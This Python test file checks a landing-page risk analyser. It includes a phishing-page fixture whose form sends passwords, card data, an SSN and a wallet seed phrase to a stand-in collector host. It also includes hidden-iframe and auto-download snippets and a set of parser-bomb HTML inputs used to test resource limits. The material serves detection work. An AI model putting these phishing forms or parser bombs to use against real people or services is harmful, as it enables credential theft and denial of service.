"""Landing-page analysis: extraction, risk signals with evidence, and hostile HTML staying bounded."""

from __future__ import annotations

import resource
import shutil
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.config import CONFIG_DIR
from core.errors import InvalidInput, PayloadTooLarge
from multimodal.page import MAX_FIELDS_PER_FORM, MAX_FORMS, MAX_LINKS, PageAnalysis, analyze_page
from multimodal.page_guard import bounded_prefix
from multimodal.page_rules import load_page_signals, taxonomy_ids

PHISH_URL = "http://paypal-secure-login.com.account-verify.xyz/signin/"
PHISH = """<html><head><title>PayPal: Log in to your account</title>
<meta name="description" content="Log in">
<meta http-equiv="refresh" content="30; url=https://next.example.net/step2"></head><body>
<div class="countdown-timer">09:59</div>
<h1>Your account will be suspended</h1><p>Act now! Confirm your identity within 24 hours.</p>
<form action="https://collector.evil.net/gate.php" method="POST">
  <label for="e">Email</label><input id="e" name="login_email">
  <label for="p">Password</label><input id="p" type="password" name="pw">
  <label>Card number <input name="cardNumber" autocomplete="cc-number"></label>
  <input name="cvv2" aria-label="Security code">
  <input name="ssn" placeholder="Social Security Number">
  <input name="walletSeedPhrase">
  <input type="submit" value="Continue">
</form>
<iframe src="http://tracker.example.org/x" width="1" height="1"></iframe>
<a href="/downloads/update.exe">Update</a>
<script>setTimeout(function () { window.location.href = "https://landing.example.com/go"; }, 9000);</script>
<script src="https://cdn.example.org/lib.js"></script>
</body></html>"""

BAKERY_URL = "https://www.sunrisebakery.com/"
BAKERY = """<!doctype html><html lang=en><head><title>Sunrise Bakery - Fresh bread in Portland</title>
<meta name=description content="Family bakery since 1987"><style>.hero{color:red}</style>
<script>var secret = "script text is not visible";</script></head><body>
<nav><a href="/">Home</a> <a href="/menu">Menu</a> <a href="/about">About us</a></nav>
<h1>Sunrise Bakery</h1><p>Sourdough and apple pie baked every morning.</p>
<noscript>enable javascript</noscript><template><p>template text</p></template>
<form action="/order" method="post"><label>Your name <input name="name"></label>
<label>Cake <select name="cake"><option>Carrot</option></select></label><textarea name="note"></textarea></form>
<a href="https://www.instagram.com/sunrisebakery">Follow us on Instagram</a>
<footer>123 Main Street, Portland · Call (503) 555-0147 · <a href="mailto:hello@sunrisebakery.com">e-mail</a>
<a href="/privacy">Privacy policy</a> <a href="/terms">Terms</a> <a href="/returns">Returns</a></footer>
</body></html>"""


def names(analysis: PageAnalysis) -> set[str]:
    return {s.name for s in analysis.signals}


def test_phishing_page_raises_signals_with_evidence():
    a = analyze_page(PHISH, PHISH_URL)
    expected = {
        "credential_field", "payment_field", "personal_data_field", "cross_domain_form", "brand_domain_mismatch",
        "urgency_language", "missing_business_identity", "meta_refresh_redirect", "js_redirect", "hidden_iframe",
        "download_link",
    }
    assert expected <= names(a)
    credential = a.signal("credential_field")
    assert credential and credential.category == "phishing" and credential.score == 0.8  # seed phrase: strongest
    assert "walletSeedPhrase" in credential.detail and 'name="pw"' in credential.detail
    assert "cardNumber" in a.signal("payment_field").detail
    personal = a.signal("personal_data_field")
    assert personal.category == "privacy_personal_data" and "ssn" in personal.detail
    cross = a.signal("cross_domain_form")
    assert "evil.net" in cross.detail and "account-verify.xyz" in cross.detail and cross.score == 0.75
    brand = a.signal("brand_domain_mismatch")
    assert '"paypal" in the title' in brand.detail and "paypal.com" in brand.detail and brand.score == 0.85
    urgency = a.signal("urgency_language")
    assert urgency.category == "scam_fraud" and '"act now"' in urgency.detail and "countdown" in urgency.detail
    assert a.signal("meta_refresh_redirect").detail.endswith("https://next.example.net/step2")
    assert "landing.example.com" in a.signal("js_redirect").detail
    assert a.hidden_iframes == 1 and a.iframes == ["http://tracker.example.org/x"]
    assert a.signal("download_link").detail.endswith("/downloads/update.exe")
    assert all(0 <= s.score <= 1 and s.category in taxonomy_ids() for s in a.signals)


def test_phishing_page_extraction():
    a = analyze_page(PHISH, PHISH_URL)
    assert a.domain == "account-verify.xyz" and a.host == "paypal-secure-login.com.account-verify.xyz"
    assert a.title == "PayPal: Log in to your account" and a.meta_description == "Log in"
    assert a.headings == ["Your account will be suspended"]
    form = a.forms[0]
    assert form.method == "post" and form.action_domain == "evil.net" and form.fields_total == 7
    by_name = {f.name: f for f in form.fields}
    assert by_name["pw"].type == "password" and by_name["pw"].label == "Password"
    assert by_name["cardNumber"].label.startswith("Card number") and by_name["cardNumber"].autocomplete == "cc-number"
    assert by_name["cvv2"].label == "Security code" and by_name["ssn"].placeholder == "Social Security Number"
    assert a.redirects == ["https://next.example.net/step2", "https://landing.example.com/go"]
    assert a.external_scripts == ["https://cdn.example.org/lib.js"] and a.scripts == 2
    assert a.downloads == ["http://paypal-secure-login.com.account-verify.xyz/downloads/update.exe"]
    assert a.link_domains == {"account-verify.xyz": 1}


def test_benign_page_extraction_and_no_risk_signals():
    a = analyze_page(BAKERY, BAKERY_URL)
    assert a.signals == []
    assert a.domain == "sunrisebakery.com" and a.title.startswith("Sunrise Bakery")
    assert "apple pie" in a.visible_text and "Sunrise Bakery" in a.visible_text
    for hidden in ("script text", "enable javascript", "template text", "color:red", "Fresh bread"):
        assert hidden not in a.visible_text  # script, noscript, template, style and head are not visible
    assert "https://www.sunrisebakery.com/menu" in a.links and a.link_domains["instagram.com"] == 1
    assert a.forms[0].action_url == "https://www.sunrisebakery.com/order"
    assert [f.tag for f in a.forms[0].fields] == ["input", "select", "textarea"]


def test_without_url_no_domain_comparisons():
    a = analyze_page(PHISH)
    assert a.domain is None and a.url is None
    assert "brand_domain_mismatch" not in names(a)  # nothing to compare the brand with
    assert a.signal("cross_domain_form") is None  # the action's domain may be the page's own
    assert "credential_field" in names(a) and "hidden_iframe" in names(a)
    assert a.downloads == ["/downloads/update.exe"] and a.links == []  # relative links cannot be made absolute


def test_brand_in_body_text_only_counts_on_pages_asking_for_secrets():
    social = '<title>Cafe</title><p>Follow us on Instagram and Facebook</p>'
    assert analyze_page(social, "https://cafe.example/").signal("brand_domain_mismatch") is None
    login = '<title>Sign in</title><p>Use your Microsoft account</p><form><input type=password name=p></form>'
    signal = analyze_page(login, "https://login.example-portal.com/").signal("brand_domain_mismatch")
    assert signal and signal.score == 0.3 and "microsoft" in signal.detail
    own = '<title>Microsoft account</title><form><input type=password></form>'
    assert analyze_page(own, "https://login.live.com/").signal("brand_domain_mismatch") is None


@pytest.mark.parametrize(
    ("html", "level_score"),
    [
        ('<meta http-equiv="refresh" content="0;URL=\'/files/app.apk\'">', 0.85),
        ("<script>location.replace('http://dl.example/setup.msi')</script>", 0.85),
        ('<iframe src="http://dl.example/tool.exe" style="display:none"></iframe>', 0.85),
        ('<a href="/report.pdf" download>report</a>', 0.45),
    ],
)
def test_auto_download(html, level_score):
    signal = analyze_page(html, "https://site.example/").signal("auto_download")
    assert signal and signal.category == "malware_cloaking" and signal.score == level_score


@pytest.mark.parametrize(
    "iframe",
    [
        '<iframe src="x" width="0" height="0"></iframe>',
        '<iframe src="x" style="display: none"></iframe>',
        '<iframe src="x" style="visibility:hidden"></iframe>',
        '<iframe src="x" hidden></iframe>',
        '<iframe src="x" height="1px" width="300"></iframe>',
    ],
)
def test_hidden_iframes(iframe):
    a = analyze_page(iframe + '<iframe src="y" width="300" height="200"></iframe>', "https://a.example/")
    assert a.hidden_iframes == 1 and len(a.iframes) == 2 and a.signal("hidden_iframe")


def test_form_targets():
    mailto = analyze_page('<form action="mailto:drop@evil.example"><input type=password></form>', "https://a.com/")
    assert mailto.signal("cross_domain_form").score == 0.6
    ip = analyze_page('<form action="http://203.0.113.9/p.php"><input name=q></form>', "https://a.com/")
    assert ip.signal("cross_domain_form").score == 0.7 and ip.forms[0].action_domain == "203.0.113.9"
    same = analyze_page('<form action="https://shop.a.co.uk/pay"><input type=password></form>', "https://a.co.uk/")
    assert same.signal("cross_domain_form") is None and same.domain == "a.co.uk"
    other = analyze_page('<form action="https://b.com/x"><input name=q></form>', "https://a.com/")
    assert other.signal("cross_domain_form").score == 0.4


def test_field_terms_match_whole_words():
    a = analyze_page('<input name="shipping_address"><input name="pincode"><input name="user_pin">', "https://a.com/")
    assert a.signal("credential_field").detail.count("input") == 1 and "user_pin" in a.signal("credential_field").detail
    assert analyze_page('<input type="hidden" name="password">', "https://a.com/").signal("credential_field") is None


def test_business_identity():
    bare = analyze_page("<title>Deal</title><p>Buy now</p>", "https://x.example/")
    signal = bare.signal("missing_business_identity")
    assert signal.category == "destination_quality" and signal.score == 0.3 and "contact details" in signal.detail
    assert signal.score < load_page_signals().signals["missing_business_identity"].scores["max"] + 1e-9 < 0.6
    partial = analyze_page('<p>Write to help@x.example</p><a href="/privacy">Privacy</a>', "https://x.example/")
    assert partial.signal("missing_business_identity") is None  # contact and privacy present: 2 of 4 missing


def test_visible_text_is_bounded():
    a = analyze_page("<p>" + "word " * 50_000 + "</p>", max_text_chars=1000)
    assert len(a.visible_text) == 1000 and a.text_truncated


def test_rejects_bad_input():
    with pytest.raises(InvalidInput):
        analyze_page(b"<p>bytes</p>")  # type: ignore[arg-type]
    with pytest.raises(PayloadTooLarge):
        analyze_page("x" * (6 * 1024 * 1024 + 1))


# ----------------------------------------------------------------------------------- hostile input
def _rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


HOSTILE = {
    "100k nested divs": "<div>" * 100_000,
    "100k nested dl/dd": "<dl><dd>" * 100_000,
    "formatting re-creation bomb": "".join(f"<p><b id={i}></p>" for i in range(20_000)),
    "deep spans then divs": "<span>" * 200_000 + "<div>" * 10_000,
    "1.7M formatting tags": "<b>" * 1_700_000,
    "bomb hidden behind a fake comment": '<x title="<!--">' + "<div>" * 100_000 + "-->",
    "five MiB of links": ('<p><a href="https://s%d.example.com/p">link</a> text</p>\n' * 80_000)[: 5 * 1024 * 1024],
    "five MiB of text": "word " * (5 * 1024 * 1024 // 5),
    "odd characters": "\x00\ud800\udfff\ufffe\u202e<title>\x00t\ud800</title><p>\x01 é 漢字 \U0001f600</p>" * 2000,
    "no html, head or body": "<p>fragment <a href=x>y</a>",
    "huge attribute values": '<a href="' + "x" * 4_000_000 + '">y</a><input name="' + "p" * 500_000 + '">',
    "many forms and fields": "<form action=/x>" + "<input type=password name=pw>" * 5000 + "</form>" * 1
    + "".join(f"<form action=/f{i}><input name=a></form>" for i in range(2000)),
    "lt spam": "<" * 5_000_000,
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_html_stays_bounded(case):
    html = HOSTILE[case]
    before = _rss_mb()
    start = time.perf_counter()
    a = analyze_page(html, "https://hostile.example/")
    elapsed = time.perf_counter() - start
    assert elapsed < 8.0, f"{case} took {elapsed:.1f}s"
    assert _rss_mb() - before < 1500, f"{case} grew the process by {_rss_mb() - before:.0f} MB"
    assert len(a.links) <= MAX_LINKS and len(a.forms) <= MAX_FORMS
    assert all(len(f.fields) <= MAX_FIELDS_PER_FORM for f in a.forms)
    assert len(a.visible_text) <= 100_000 and all(len(link) <= 4096 for link in a.links)


def test_caps_and_parse_limits():
    many = analyze_page(HOSTILE["many forms and fields"], "https://a.example/")
    assert len(many.forms) == MAX_FORMS and many.forms[0].fields_total == 5000
    assert len(many.forms[0].fields) == MAX_FIELDS_PER_FORM
    links = analyze_page(HOSTILE["five MiB of links"], "https://a.example/")
    assert len(links.links) == MAX_LINKS and not links.parse_limited
    deep = analyze_page(HOSTILE["100k nested divs"])
    assert deep.parse_limited and deep.parse_limit_reason == "nesting" and deep.signal("markup_abuse")
    bomb = analyze_page(HOSTILE["formatting re-creation bomb"])
    assert bomb.parse_limited and bomb.parse_limit_reason == "formatting"
    odd = analyze_page(HOSTILE["odd characters"])
    assert odd.title == "\ufffdt?" and "漢字" in odd.visible_text  # NUL → U+FFFD (HTML5), lone surrogate → "?"


def test_guard_passes_ordinary_large_pages_whole():
    row = "<div class=row><div class=col><p>Text <a href='/x'>link</a> <b>bold</b></p><ul><li>a<li>b</ul></div></div>\n"
    data = (row * 40_000).encode()
    budget = bounded_prefix(data)
    assert not budget.limited and budget.end == len(data) and budget.start_tags > 300_000


# ----------------------------------------------------------------------------------- config
def test_config_loads_and_is_validated(tmp_path: Path):
    config = load_page_signals()
    assert {s.category for s in config.signals.values()} <= taxonomy_ids()
    shutil.copy(CONFIG_DIR / "taxonomy.yaml", tmp_path / "taxonomy.yaml")
    text = (CONFIG_DIR / "page_signals.yaml").read_text()
    (tmp_path / "page_signals.yaml").write_text(text.replace("category: scam_fraud", "category: no_such_category"))
    with pytest.raises(ValueError, match="no_such_category"):
        load_page_signals(tmp_path)
    (tmp_path / "page_signals.yaml").write_text(text.replace("other_site: 0.55", "other_site: 1.5"))
    with pytest.raises(ValueError, match=r"0\.\.1"):
        load_page_signals.__wrapped__(tmp_path)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(["<div>", "</div>", "<form action='//x.ru'>", "<input type=password>", "<a href='",
                                 "'>", "<script>location='", "</script>", "<title>", "PayPal", "\x00", "\ud800",
                                 "<iframe width=0 src=a.exe>", "<!--", "-->", "<meta http-equiv=refresh content='0;",
                                 "&amp;", "&#xD800;", "<p><b>", "x" * 50]), max_size=200),
       st.sampled_from([None, "http://example.com/", "not a url", "http://[::1/", "https://xn--pypal-4ve.com/"]))
def test_fuzzed_html_analyses_or_fails_cleanly(chunks, url):
    from core.errors import AdriskError

    try:
        analysis = analyze_page("".join(chunks), url)
    except AdriskError as exc:
        assert exc.http_status in (400, 413, 422)
    else:
        assert all(0.0 <= s.score <= 1.0 for s in analysis.signals)


# ----------------------------------------------------------------------------------- what ordinary sites carry
# Measured on real benign pages (adrisk pages eval; README "Landing pages"): these must stay quiet or weak.
GTM_NOSCRIPT = ('<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-ABC1234" height="0" '
                'width="0" style="display:none;visibility:hidden"></iframe></noscript>')


def _score(html: str, name: str, url: str | None = None) -> float | None:
    signal = analyze_page(html, url).signal(name)
    return signal.score if signal else None


@pytest.mark.parametrize("url", [None, "https://www.shop.example/"])
@pytest.mark.parametrize("embed", [
    GTM_NOSCRIPT,
    '<noscript><iframe src="https://px.unknown-vendor.example/ns" width="0" height="0"></iframe></noscript>',
    '<iframe src="https://www.googletagmanager.com/ns.html?id=GTM-ABC1234" width="0" height="0"></iframe>',
    '<iframe src="//td.doubleclick.net/td/rul/123" style="display:none" width="0" height="0"></iframe>',
    '<iframe src="https://www.youtube.com/embed/aBcDeFgHiJk" width="560" height="315" hidden></iframe>',
    '<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" style="border:0;"></iframe>',
])
def test_tag_manager_and_embed_iframes_are_not_hidden_iframe(embed, url):
    html = f"<html><body>{embed}<p>Spring collection</p></body></html>"
    assert _score(html, "hidden_iframe", url) is None


def test_hidden_iframe_to_an_unknown_host_still_fires():
    visible_size = '<iframe src="https://cdn-check.example.biz/gate" width="300" height="250" style="display:none">'
    assert _score(visible_size + "</iframe>", "hidden_iframe") == 0.55
    assert _score(visible_size + "</iframe>", "hidden_iframe", "https://www.shop.example/") == 0.55
    assert _score('<iframe src="http://203.0.113.7/x" width="1" height="1"></iframe>', "hidden_iframe") == 0.55
    # Hidden and on the page's own site (a silent session-refresh frame): weak, below any threshold.
    assert _score('<iframe src="/auth/silent-refresh" hidden></iframe>', "hidden_iframe") == 0.2
    own = '<iframe src="https://accounts.shop.example/refresh" style="display:none"></iframe>'
    assert _score(own, "hidden_iframe", "https://www.shop.example/") == 0.2


LOGIN = """<html><head><title>Sign in · Team Hub</title></head><body><h1>Sign in</h1>
<form action="/hub/login?next=" method="post">
<label for="u">Username:</label><input id="u" name="username" autocomplete="username">
<label for="p">Password:</label><input id="p" type="password" name="password" autocomplete="current-password">
<button type="submit">Sign in</button></form></body></html>"""


@pytest.mark.parametrize("url", [None, "https://hub.example.org/hub/login"])
def test_same_site_login_form_is_weak(url):
    signal = analyze_page(LOGIN, url).signal("credential_field")
    assert signal and signal.score == 0.15 and "own site" in signal.detail
    same_domain = LOGIN.replace('action="/hub/login?next="', 'action="https://login.example.org/session"')
    assert _score(same_domain, "credential_field", "https://hub.example.org/") == 0.15
    # The brand's own login page on the brand's own domain.
    own = '<title>Microsoft account</title><form method=post><input type=password name=passwd></form>'
    assert _score(own, "credential_field", "https://login.live.com/") == 0.15


def test_credential_harvesting_copies_stay_strong():
    elsewhere = LOGIN.replace('action="/hub/login?next="', 'action="https://collect.example.ru/gate.php"')
    assert _score(elsewhere, "credential_field", "https://hub.example.org/") == 0.8
    assert analyze_page(elsewhere, "https://hub.example.org/").signal("cross_domain_form").score == 0.75
    assert _score(elsewhere, "credential_field") == 0.45  # no page URL, no brand: destination unknown
    brand = elsewhere.replace("Team Hub", "PayPal")
    assert _score(brand, "credential_field") == 0.8  # PayPal's name, a form posting to a domain PayPal does not own
    kit = LOGIN.replace("Team Hub", "PayPal")  # a phishing kit posting to its own (relative) script
    assert _score(kit, "credential_field") == 0.45  # without the URL, the brand cannot be shown to own the page
    assert _score(kit, "credential_field", "http://paypal.com-secure.example.xyz/") == 0.8
    seed = '<form action="/next"><label>Secret recovery phrase <textarea name="words"></textarea></label></form>'
    assert _score(seed, "credential_field") == 0.8


def test_same_site_script_routing_is_weak():
    routing = "<script>el.onclick = function () { window.location.href = '/search?q=' + q; };</script>"
    assert _score(routing, "js_redirect") == 0.1
    assert _score(routing, "js_redirect", "https://www.shop.example/") == 0.1
    away = "<script>location.replace('https://prize.example.click/claim')</script>"
    assert _score(away, "js_redirect") == 0.3  # no page URL: cannot tell the site
    assert _score(away, "js_redirect", "https://www.shop.example/") == 0.5
